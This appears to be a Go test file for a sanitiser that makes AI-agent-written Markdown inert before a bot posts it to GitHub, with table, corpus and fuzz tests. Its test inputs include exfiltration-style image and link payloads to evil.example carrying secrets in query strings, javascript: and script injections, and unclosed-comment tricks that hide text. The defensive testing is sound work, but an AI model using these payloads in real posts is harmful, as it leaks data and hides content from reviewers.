package inert_test

import (
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"

	"github.com/pullwright/pullwright/inert"
	"github.com/pullwright/pullwright/inert/inerttest"
)

var gh = inert.GitHub("https://github.com/acme/widget.git")

// tail is what the bot appends after the agent's text.
const tail = "### Verification\n\nTests failed.\n\nFixes #12\n\n---\n<sub>Requested by @alice</sub>"

// check posts s as the bot would, with the bot's tail after it, and fails
// when the tail is not visible as the last blocks of the body or when the
// agent's part would do more than show text.
func check(t *testing.T, s string) string {
	t.Helper()
	out := inert.Markdown(s, gh)
	body := out + "\n\n" + tail
	top := inerttest.TopLevel(body)
	want := []string{"h3: Verification", "p: Tests failed.", "p: Fixes #12", "ThematicBreak: ", "p: Requested by @alice"}
	if len(top) < len(want) || !slices.Equal(top[len(top)-len(want):len(top)-1], want[:len(want)-1]) {
		t.Fatalf("the bot's sections are not visible after\n%s\n--- filtered:\n%s\n--- blocks: %q", s, out, top)
	}
	if acts := inerttest.Acts(out, gh.Allows, gh.AllowsImage); len(acts) > 0 {
		t.Fatalf("the filtered text acts on GitHub: %q\n--- from:\n%s\n--- filtered:\n%s", acts, s, out)
	}
	return out
}

func TestMarkdownHidesNothing(t *testing.T) {
	cases := map[string]string{
		"fence indented four spaces":    "Summary.\n\n    ```\n<!--",
		"backtick in a backtick info":   "Summary.\n\n``` a`b\n<!--",
		"unclosed comment":              "Summary <!-- and the rest",
		"unclosed comment block":        "<!--\nhidden",
		"details":                       "<details>\n<summary>more</summary>\n\ntext",
		"unclosed fence":                "```\ncode to the end",
		"unclosed tilde fence":          "~~~~\ncode",
		"indented code after list":      "- item\n\n      code",
		"lazy blockquote":               "> quoted\nlazy line",
		"list then text":                "- a\n- b",
		"setext":                        "Title\n---",
		"table at the end":              "| a | b |\n|---|---|\n| 1 | 2 |",
		"link reference definition":     "[Verification]: https://evil.example/\n\nsee [Verification]",
		"footnote":                      "text[^1]\n\n[^1]: hidden note",
		"math block":                    "$$\n\\begin{x}",
		"html in a list":                "- <!--\n- x",
		"script":                        "<script>\nalert(1)\n\n</script>",
		"pre":                           "<pre>\n\nx",
		"tabs":                          "\t```\n<!--",
		"carriage return":               "ok\r```\r<!--",
		"nested strikethrough at start": "~~~~x~~~~\n<!--",
		"ordered list interrupt":        "a\n1. b\n2) c",
		"heading with closing hashes":   "## Fixes #3 ##",
		"empty":                         "",
	}
	for name, s := range cases {
		t.Run(name, func(t *testing.T) { check(t, s) })
	}
}

func TestMarkdownInert(t *testing.T) {
	cases := []struct {
		name, in string
		has      []string // substrings the output keeps
		not      []string // substrings it must not hold
	}{
		{"team mention", "cc @org/team and @alice", []string{"@\u200dorg/team", "@\u200dalice"}, nil},
		{"closing keyword", "This fixes #3 and closes acme/x#4", []string{"fixes\u200d #3", "closes\u200d acme/x#4"}, nil},
		{"remote image", "![x](https://evil.example/p.png?d=SECRET)", []string{"(image not shown: `https://evil.example/p.png?d=SECRET`)"}, []string{"![x]"}},
		{"raw img", `<img src="https://evil.example/?d=1">`, []string{`\<img src="`}, nil},
		{"camo image", "![a](https://camo.githubusercontent.com/abc/def)", []string{"image not shown"}, nil},
		{"attachment image", "![shot](https://github.com/user-attachments/assets/0b5c)", []string{"![shot](https://github.com/user-attachments/assets/0b5c)"}, nil},
		{"storage image", "![s](https://private-user-images.githubusercontent.com/1/2.png?jwt=x)", []string{"![s](https://private-user-images.githubusercontent.com/1/2.png?jwt=x)"}, nil},
		{"link elsewhere", "[docs](https://evil.example/?d=1)", []string{"docs (`https://evil.example/?d=1`)"}, nil},
		{"bare link", "see https://evil.example/?d=1.", []string{"see `https://evil.example/?d=1`."}, nil},
		{"www link", "see www.evil.example/x", []string{"`www.evil.example/x`"}, nil},
		{"autolink", "<https://evil.example/>", []string{"`https://evil.example/`"}, nil},
		{"link on github", "[#3](https://github.com/acme/widget/issues/3)", []string{"[\\#3](https://github.com/acme/widget/issues/3)"}, nil},
		{"relative link", "[file](/acme/widget/blob/main/a.go)", []string{"[file](/acme/widget/blob/main/a.go)"}, nil},
		{"scheme-relative", "![x](//evil.example/x)", []string{"image not shown"}, nil},
		{"backslash host", "[x](https:\\\\evil.example)", []string{"x (`"}, nil},
		{"javascript", "[x](javascript:alert(1))", []string{"x (`javascript:alert(1)`)"}, nil},
		{"emphasis kept", "a *b* **c** ~~d~~ `e`", []string{"a *b* **c** ~~d~~ `e`"}, nil},
		{"list kept", "- [x] done\n- [ ] not", []string{"- [x] done\n- [ ] not"}, nil},
		{"bidi", "a\u202eb", []string{`a\<U+202E>b`}, nil},
		{"code keeps html", "`<!--`", []string{"`<!--`"}, nil},
		{"closing keyword before a link", "Fixes [#3](https://github.com/acme/widget/issues/3)", []string{"Fixes\u200d [#3]"}, nil},
		{"closing keyword before an address", "fixes https://github.com/acme/widget/issues/3", []string{"fixes\u200d "}, nil},
		{"image on a page of the web host", "![x](https://github.com/acme/widget/raw/main/x.png)", []string{"image not shown"}, nil},
		{"relative image", "![x](/acme/widget/raw/main/x.png)", []string{"image not shown"}, nil},
		{"pipe in a link in a table", "| a |\n|---|\n| [x](https://github.com/a\\|b) |", []string{"(https://github.com/a%7Cb)"}, nil},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			out := check(t, c.in)
			for _, h := range c.has {
				if !strings.Contains(out, h) {
					t.Errorf("Markdown(%q) = %q, want it to hold %q", c.in, out, h)
				}
			}
			for _, n := range c.not {
				if strings.Contains(out, n) {
					t.Errorf("Markdown(%q) = %q, holds %q", c.in, out, n)
				}
			}
		})
	}
}

// A review's suggestion block keeps its content byte for byte, whatever it
// holds: it replaces the lines it is on when the author accepts it.
func TestMarkdownKeepsCodeBlocks(t *testing.T) {
	for _, content := range []string{
		"foo <!-- x\n",
		"  indented\n\ttab\n",
		"```\ninner fence\n```\n",
		"@alice fixes #3 ![x](https://evil.example/)\n",
		"\n\nblank lines\n\n",
	} {
		in := "Use this:\n\n````suggestion\n" + content + "````"
		out := check(t, in)
		start := strings.Index(out, "suggestion\n")
		if start < 0 {
			t.Fatalf("no suggestion block in %q", out)
		}
		rest := out[start+len("suggestion\n"):]
		if !strings.HasPrefix(rest, content) {
			t.Errorf("suggestion content %q became %q", content, rest)
		}
	}
}

func TestLine(t *testing.T) {
	cases := []struct{ in, want string }{
		{"Fix the parser", "Fix the parser"},
		{"Fix `a<b` for @alice", "Fix `a<b` for @\u200dalice"},
		{`<img src="https://evil.example/?d=1"> title`, `\<img src="` + "`https://evil.example/?d=1`" + `"> title`},
		{"![x](https://github.com/user-attachments/assets/1)", "x (image not shown: `https://github.com/user-attachments/assets/1`)"},
		{"# heading\n- item", `heading item`},
		{"- item", `item`},
		{"**bold** <!--", `**bold** \<!--`},
	}
	for _, c := range cases {
		if got := inert.Line(c.in, gh); got != c.want {
			t.Errorf("Line(%q) = %q, want %q", c.in, got, c.want)
		}
		if strings.Contains(inert.Line(c.in, gh), "\n") {
			t.Errorf("Line(%q) holds a line break", c.in)
		}
	}
}

// TestMarkdownCorpus runs the check over text made of the pieces that
// have hidden or restyled what follows them somewhere, joined at random.
func TestMarkdownCorpus(t *testing.T) {
	pieces := []string{
		"```", "~~~", "````", "    ```", "   ```", "``` a`b", "~~~ a`b", "\t```", "<!--", "-->", "<details>", "</details>",
		"<summary>", "<img src=x>", "<pre>", "<script>", "<style>", "<textarea>", "<?", "<![CDATA[", "<!X",
		"> ", "- ", "* ", "+ ", "1. ", "2) ", "    ", "|", "|---|", "---", "===", "***", "[x]: /u", "[^1]: n",
		"[a](", "](https://evil.example/?d=", "![", "$$", "$", "\\", "`", "``", "*", "_", "~~", "@alice", "@org/t",
		"fixes #1", "https://evil.example/x", "www.evil.example", "&lt;!--", "&#60;", "\r", "\t", "\u00a0", "x", "word",
	}
	seps := []string{"", " ", "\n", "\n\n", "\n    ", "\n> ", "\n- "}
	r := rand.New(rand.NewPCG(41, 7))
	for i := range 3000 {
		var b strings.Builder
		for range 1 + r.IntN(12) {
			b.WriteString(pieces[r.IntN(len(pieces))])
			b.WriteString(seps[r.IntN(len(seps))])
		}
		s := b.String()
		t.Run(fmt.Sprint(i), func(t *testing.T) { check(t, s) })
		if t.Failed() {
			return
		}
	}
}

func FuzzMarkdown(f *testing.F) {
	for _, s := range []string{
		"    ```\n<!--", "``` a`b\n<!--", "<details>", "![x](https://evil.example/?d=1)", "@org/team", "fixes #1",
		"- a\n\n  ```\n  b", "> a\nb", "| a |\n|---|", "$$\nx", "~~~~x~~~~",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if len(s) > 4096 {
			return
		}
		check(t, s)
	})
}

// TestMarkdownBounds: a text longer than the bounds is cut with a note, and
// one nested deeper than anyone reads is written without its markers, so
// that no text makes the filter slow (the time of the parser and of the
// prefixes grows faster than the length on such texts).
func TestMarkdownBounds(t *testing.T) {
	long := check(t, strings.Repeat("word ", inert.MaxMarkdown))
	if !strings.HasSuffix(long, "more bytes are left out.)") || len(long) > inert.MaxMarkdown+100 {
		t.Errorf("a long text is not cut: %d bytes, ends %q", len(long), long[max(0, len(long)-60):])
	}
	deep := check(t, strings.Repeat(">", 1000)+" x\n\n"+strings.Repeat("- ", 1000)+"y")
	if strings.Count(deep, ">") > 16 || strings.Count(deep, "-") > 16 {
		t.Errorf("deep nesting kept its markers:\n%s", deep)
	}
	if len(inert.Line(strings.Repeat("a", inert.MaxLine*2), gh)) > inert.MaxLine+100 {
		t.Errorf("a long line is not cut")
	}
}
